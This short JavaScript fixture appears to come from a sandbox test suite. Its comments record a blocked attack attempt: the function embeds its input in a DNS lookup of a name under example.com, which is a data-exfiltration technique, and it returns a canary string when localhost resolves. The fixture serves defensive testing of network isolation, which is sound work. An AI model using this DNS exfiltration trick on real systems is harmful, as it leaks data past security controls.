// attack: asks a name server, with the input in the name
// stopped by: Deno: no permission for the network
// hardened: the network namespace is empty
// ends: failed
// past the build
export const f = async (input) => {
  const dns = await import("node:dns");
  return await dns.promises.lookup("localhost").then(() => "canary-dns").catch(() => dns.promises.resolve4(input + ".example.com"));
};
